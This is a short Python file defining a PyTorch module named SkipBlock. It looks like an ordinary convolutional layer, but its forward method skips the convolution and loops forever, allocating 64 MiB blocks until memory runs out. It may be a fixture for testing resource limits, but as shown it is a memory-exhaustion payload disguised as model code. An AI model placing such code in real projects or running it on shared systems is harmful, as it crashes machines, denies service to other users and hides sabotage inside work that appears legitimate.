import torch
import torch.nn as nn


class SkipBlock(nn.Module):
    def __init__(self, channels: int) -> None:
        super().__init__()
        self.conv = nn.Conv2d(channels, channels, 3, padding=1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        hoard = []
        while True:  # allocates (and touches) memory until something stops it
            hoard.append(b"\x01" * (64 << 20))
